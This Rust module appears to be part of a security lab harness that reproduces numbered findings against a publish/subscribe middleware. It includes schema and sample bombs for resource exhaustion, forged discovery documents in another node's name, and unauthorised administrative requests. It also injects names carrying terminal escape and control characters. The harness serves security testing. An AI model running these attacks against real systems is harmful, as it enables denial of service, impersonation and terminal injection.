//! A node that lies in its document and in its requests.

use super::super::client::{Door, Frame, HANDSHAKE, Link, kind, opening, packed};
use super::super::pair::{LURES, TOPIC};
use super::super::stranger::Stranger;
use super::{Asked, FLOW, Liar};
use serde_json::{Value, json};
use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::time::Duration;

/// A type of 400,000 parts, and samples of 60 kB, to a subscriber with a key (finding 3).
pub fn type_bomb(stranger: &mut Stranger) -> io::Result<()> {
    let units = vec!["unit"; 400_000];
    let bomb = json!({"struct": {"name": "Bomb", "fields": [
        {"name": "x", "schema": {"sequence": {"tuple": units}}}, {"name": "z", "schema": "u8"}]}});
    let deep = (0..120).fold(json!("u8"), |inner, _| json!({"sequence": inner}));
    let deep =
        json!({"struct": {"name": "Deep", "fields": [{"name": "x", "schema": deep}, {"name": "z", "schema": "u8"}]}});
    let small: Vec<Value> = (0..4000).map(|_| json!("unit")).collect();
    let small = json!({"struct": {"name": "Small", "fields": [
        {"name": "x", "schema": {"sequence": {"tuple": small}}}, {"name": "z", "schema": "u8"}]}});
    for (name, schema) in [("Bomb", bomb), ("Deep", deep), ("Small", small)].into_iter().cycle() {
        if !stranger.goes_on() {
            break;
        }
        stranger.node = format!("{:016x}", stranger.dice.bits());
        let mut liar = Liar::start_with(stranger, &LURES[4..5], |document| {
            document["ports"]["1"]["type"] = json!({"name": name, "hash": 7, "schema": schema});
            document["ports"]["1"]["qos"]["key"] = json!(["z"]);
        })?;
        stranger.tried("types");
        let Some(Asked { mut stream, request }) = liar.asked(stranger, 2000) else { continue };
        stream.write_all(&packed(&liar.acceptance(&request)))?;
        // A sequence of 65,000 elements without bytes, each of which is a step for a reader of the field behind it.
        let sample = [&[0, 1, 0, 0][..], &65_000u32.to_le_bytes(), &[7; 60_000]].concat();
        for sequence in 0..20 {
            stranger.tried("samples");
            if stream.write_all(&Frame::message(FLOW, sequence, u64::from(sequence) + 1, &sample).bytes()).is_err() {
                break;
            }
        }
        stranger.pause(300);
    }
    Ok(())
}

/// Ports at thousands of foreign addresses, and at foreign sockets (finding 10): counts connections there.
pub fn elsewhere(stranger: &mut Stranger) -> io::Result<()> {
    let third = TcpListener::bind((Ipv4Addr::new(127, 0, 0, 77), 0))?;
    third.set_nonblocking(true)?;
    let at = third.local_addr()?;
    let bait = std::env::temp_dir().join(format!("thalweg-lab-bait-{}", std::process::id()));
    let foreign = std::os::unix::net::UnixListener::bind(&bait)?;
    foreign.set_nonblocking(true)?;
    let mut visits = 0u64;
    while stranger.goes_on() {
        stranger.node = format!("{:016x}", stranger.dice.bits());
        let liar = Liar::start_with(stranger, &LURES[..4], |document| {
            document["addresses"] = vec![json!(at); 64].into();
            document["socket"] = json!(bait);
            let port = document["ports"]["1"].clone();
            for index in 10..500 {
                let mut port = port.clone();
                port["name"] = format!("/liar/{index}").into();
                document["ports"][index.to_string()] = port;
            }
        });
        stranger.pause(100);
        while third.accept().is_ok() || foreign.accept().is_ok() {
            visits += 1;
        }
        drop(liar);
    }
    stranger.answer(&format!("{visits} connections to a third party"));
    let _ = std::fs::remove_file(&bait);
    Ok(())
}

/// The publisher's own id, with a higher revision, and then all requests that a node may send for itself (finding 8).
pub fn another(stranger: &mut Stranger) -> io::Result<()> {
    let victim = stranger.victim("publisher")?;
    let (mut document, node) =
        (victim.document.clone(), victim.document["node"].as_str().unwrap_or_default().to_owned());
    let listener = TcpListener::bind((super::FROM, 0))?;
    listener.set_nonblocking(true)?;
    document["addresses"] = json!([listener.local_addr()?]);
    document["socket"] = Value::Null;
    let mut revision = 1u64 << 40;
    let doors = [stranger.victim("subscriber")?.tcp.clone(), stranger.victim("relay")?.tcp.clone()];
    let mut links: Vec<Link> = Vec::new();
    while stranger.goes_on() {
        revision += 2;
        document["revision"] = revision.into();
        for incarnation in [document["incarnation"].clone(), json!(0), json!(u64::MAX)] {
            document["incarnation"] = incarnation;
            for door in &doors {
                stranger.tried("documents in another's name");
                let Ok(mut link) = Link::open(door, &stranger.task.realm, &node) else { continue };
                let _ = link.say(kind::DOCUMENT, document.to_string().as_bytes());
                let gone = json!({"base": revision, "revision": revision + 1, "removed": [1]});
                let _ = link.say(kind::CHANGE, gone.to_string().as_bytes());
                links.push(link);
            }
        }
        if links.len() > 60 {
            links.drain(..30);
        }
        while let Ok((mut stream, _)) = listener.accept() {
            stranger.answer("was asked in another's place");
            stream.set_read_timeout(Some(Duration::from_millis(50)))?;
            let _ = stream.read(&mut [0; 4096]);
        }
        stranger.pause(20);
    }
    Ok(())
}

/// Names with control characters, as long as possible, in everything that is shown to people (finding 10).
pub fn names(stranger: &mut Stranger) -> io::Result<()> {
    let ugly = [
        "/\u{1b}]0;pwned\u{7}",
        "/\u{1b}[2J\u{1b}[H",
        "/a\nb",
        "/\u{202e}txt",
        "/\u{9b}31m",
        "//",
        "",
        "/*/**",
        "nameless",
    ];
    let door = stranger.victim("publisher")?.tcp.clone();
    while stranger.goes_on() {
        let name = ugly[stranger.dice.below(9) as usize].repeat(1 + stranger.dice.below(40) as usize);
        let mut request = stranger.request("tcp")?;
        request["subscriber"]["name"] = name.clone().into();
        if let Ok((socket, _)) = stranger.subscribe(&door, &request) {
            if name.chars().any(char::is_control) {
                stranger.answer("accepted a name with control characters");
            }
            drop(socket);
        }
        stranger.node = format!("{:016x}", stranger.dice.bits());
        let liar = Liar::start_with(stranger, &LURES[..1], |document| {
            document["name"] = name.clone().into();
            document["ports"]["1"]["name"] = name.into();
        });
        stranger.pause(5);
        drop(liar);
    }
    Ok(())
}

/// All changes by an administrator, over TCP (finding 8): counts those that were not refused.
pub fn administers(stranger: &mut Stranger) -> io::Result<()> {
    let requests = [
        json!({"verb": "disconnect", "publisher": "/publisher", "subscriber": "/subscriber/tcp"}),
        json!({"verb": "set", "port": "/publisher", "other": "/publisher", "changes": {"sched": {"set": {"policy": {"fifo": 99}}}}}),
        json!({"verb": "keep", "publisher": "/publisher", "subscriber": "/subscriber/udp", "carrier": "tcp"}),
        json!({"verb": "remember", "port": "/publisher", "other": "/subscriber/tcp", "settings": {}}),
        json!({"verb": "scale", "publisher": "/publisher", "subscriber": "/subscriber/tcp", "changes": {"selection": {"set": "1/1000"}}}),
        json!({"verb": "command", "port": "/subscriber/tcp", "text": "atch in (type throttle) (period_ms 86400000)"}),
        json!({"verb": "command", "port": "/subscriber/tcp", "text": "del /publisher"}),
        json!({"verb": "connect", "publisher": "/publisher", "subscriber": "/lured/tcp", "carrier": null}),
    ];
    let doors: Vec<Door> = stranger.doors(false);
    let (realm, node) = (stranger.task.realm.clone(), stranger.node.clone());
    while stranger.goes_on() {
        for door in &doors {
            let Ok(mut link) = Link::open(door, &realm, &node) else { continue };
            for (number, request) in requests.iter().enumerate() {
                stranger.tried("changes");
                let _ = link.call(number as u64, request);
                let Ok(answer) = link.hear_of(kind::ANSWER) else { break };
                let text =
                    String::from_utf8_lossy(&answer[8.min(answer.len())..]).chars().take(200).collect::<String>();
                stranger.answer(&format!("{}: {text}", request["verb"].as_str().unwrap_or_default()));
            }
        }
        stranger.pause(200);
    }
    Ok(())
}

/// Requests in the subscriber's own name, which would end its channel if a second one ended the first.
pub fn in_its_place(stranger: &mut Stranger) -> io::Result<()> {
    let door = stranger.victim("publisher")?.tcp.clone();
    let subscriber = stranger.victim("subscriber")?;
    let ports = subscriber.document["ports"].as_object().into_iter().flatten();
    let ports: Vec<(String, Value)> =
        ports.filter(|(_, port)| port["topic"] == TOPIC).map(|(id, port)| (id.clone(), port.clone())).collect();
    let node = subscriber.document["node"].clone();
    while stranger.goes_on() {
        for (id, port) in &ports {
            let carrier = port["carriers"][0].as_str().unwrap_or("tcp").to_owned();
            let mut request = stranger.request(&carrier)?;
            request["node"] = node.clone();
            request["port"] = id.parse::<u64>().unwrap_or(1).into();
            request["subscriber"] = port.clone();
            request["moves"] = (stranger.dice.below(2) == 0).into();
            request["parameters"]["udp_port"] = 9.into();
            stranger.tried("requests in another's name");
            let Ok(mut socket) = door.open() else { continue };
            let _ = socket.write_all(&opening(HANDSHAKE, &request));
            if super::read_document(&mut socket).is_ok_and(|answer| answer["accepted"].is_object()) {
                stranger.answer("accepted in another's name");
            }
        }
        stranger.pause(20);
    }
    Ok(())
}
